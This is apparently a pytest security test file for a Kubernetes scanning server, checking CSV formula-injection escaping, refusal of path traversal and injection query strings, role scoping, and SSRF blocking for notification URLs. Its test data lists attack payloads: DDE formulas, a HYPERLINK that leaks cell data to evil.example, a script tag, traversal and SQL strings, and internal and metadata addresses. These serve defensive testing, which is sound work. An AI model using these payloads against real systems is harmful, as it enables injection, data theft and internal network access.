"""Attacks on what a team shares: tables for spreadsheets, comparisons, decisions, views, and destinations of messages."""

from __future__ import annotations

import csv
import io
import json
import time
from typing import Any, Final

import httpx2
import msgspec
import pytest

from kubekeep.model.scanned_source import SourceCluster
from tests.server.hostile.attacked import API, Attacked, create_token
from tests.server.test_ingest import build, build_subject
from tests.server.test_scans_api import encode, post

SECONDS: Final = 120
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(1)",
    'a","=1+1',
    "a;=1+1",
    "a,b'c",
    "=1+1</td><script>alert(1)</script>",
)
BEGINNINGS: Final = tuple("=+-@\t\r\n\uff0b\uff0d\uff1d\uff20")


def test_tables_begin_no_formula(attacked: Attacked) -> None:
    """Names of workloads of a submission reach a spreadsheet as texts, each in its own cell."""
    entries = [
        msgspec.structs.replace(entry, subject=msgspec.structs.replace(entry.subject, name=name))
        for number, name in enumerate(FORMULAS, 900)
        for entry in [build_subject(number, "C-0001", namespace="formulas")]
    ]
    with attacked.server.client(attacked.server.create_token()) as agent:
        answer = post(agent, encode(build(0, *entries, source=SourceCluster("formulas"))))
    assert answer.status_code == 201, answer.text
    text = attacked.everyone.get(f"{API}/exports/findings?namespace=formulas").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(row["name"].removeprefix("'") for row in rows) == sorted(FORMULAS)
    assert all({*row} == {*rows[0]} for row in rows)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(BEGINNINGS)]


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize(
    "path",
    [
        "exports/../log",
        "exports/users",
        "exports/image-packages?of=..",
        "exports/image-packages?of=../../log",
        "exports/image-packages?of=%2e%2e%2flog",
        "exports/image-packages?of=x%3Fy%23z",
        "exports/image-packages",
        "exports/findings?priority=urgent",
        "exports/findings?source=x",
        "exports/findings?text=" + "x" * 5_000,
        "comparison?from=0&to=1",
        "comparison?from=1&to=99999999999",
        "comparison?from=1:../../x&to=1:%00",
        "comparison?from=1'%20OR%201=1--&to=1",
        "comparison/findings?from=1&to=1&change=all",
        "comparison/findings?from=1&to=1&cursor=AAAA",
        "comparison/findings?from=1&to=1&limit=1000000",
        "images?order=name;DROP",
        "images/..%2f..%2flog",
        "images/sha256:" + "g" * 64,
        "sources/1/namespaces?cursor=x",
        "sources/1/coverage/../../users",
        "decisions/export?format=../csaf",
        "decisions/export?source=%00",
    ],
)
def test_other_reads_are_refused(attacked: Attacked, path: str) -> None:
    answer = attacked.outsider.get(f"{API}/{path}")
    assert answer.status_code in {400, 403, 404, 422}, answer.text
    assert answer.headers["content-type"] == "application/problem+json"


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize(
    "path", ["exports/log", "exports/deliveries", "notifications/destinations", "notifications/deliveries", "log"]
)
def test_viewer_reads_neither_log_nor_destinations(attacked: Attacked, path: str) -> None:
    assert attacked.outsider.get(f"{API}/{path}").status_code == 403


@pytest.fixture(scope="session")
def manager(attacked: Attacked) -> httpx2.Client:
    """Return a client that may decide on findings of `blog`."""
    return attacked.server.client(create_token(attacked.administrator, "manager", "cluster/blog"))


@pytest.mark.parametrize(
    "scope",
    [
        {"sources": ["*"]},
        {"sources": ["cluster/*"]},
        {"sources": ["cluster/blo*"]},
        {"sources": ["CLUSTER/BLOG"]},
        {"sources": ["cluster/shop"]},
        {"sources": ["cluster/blog", "cluster/shop"]},
        {"sources": ["cluster/%"]},
        {"sources": ["cluster/bl\u043eg"]},
        {"sources": ["cluster/blog/../shop"]},
        {"sources": []},
        {"images": ["sha256:" + "b" * 64]},
        {"repositories": ["ghcr.io/shop/concealed"]},
    ],
    ids=json.dumps,
)
def test_manager_decides_in_the_own_scope_only(manager: httpx2.Client, scope: dict[str, Any]) -> None:
    document = {"kind": "accepted-risk", "reason": "x", "scope": {"definitions": ["C-0001"], **scope}}
    assert manager.post(f"{API}/decisions", json=document).status_code in {403, 422}
    assert manager.get(f"{API}/decisions").json()["rows"] == []


TARGETS: Final = (
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://127.1:{port}/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://0177.0.0.1:{port}/",
    "http://0.0.0.0:{port}/",
    "http://[::1]:{port}/",
    "http://[::]:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://[64:ff9b::7f00:1]:{port}/",
    "http://127.0.0.1.:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fe80::1%25lo]:{port}/",
    "http://10.0.0.1:{port}/",
    "http://server.invalid@127.0.0.1:{port}/",
    "http://127.0.0.1:{port}\\@example.com/",
    "unix:///var/run/docker.sock",
)


def test_messages_reach_no_internal_address(attacked: Attacked) -> None:
    """The server itself is the target: its log would have a request of its own."""
    port = attacked.server.url.rpartition(":")[2]
    numbers = []
    for position, target in enumerate(TARGETS):
        body = {"name": f"target {position}", "kind": "alertmanager", "settings": {"url": target.format(port=port)}}
        created = attacked.administrator.post(f"{API}/notifications/destinations", json=body)
        assert created.status_code in {201, 422}, created.text
        if created.status_code == 201:
            path = f"{API}/notifications/destinations/{created.json()['id']}/test"
            numbers.append(attacked.administrator.post(path).json()["id"])
    assert numbers
    deadline = time.monotonic() + SECONDS
    while True:
        rows = attacked.administrator.get(f"{API}/notifications/deliveries").json()["rows"]
        tried = [row for row in rows if row["id"] in numbers and row["error"]]
        if len(tried) == len(numbers):
            break
        assert time.monotonic() < deadline, rows
        time.sleep(0.2)
    assert not [row for row in tried if row["state"] == "sent"]
    assert not [row["error"] for row in tried if "status" in row["error"]]
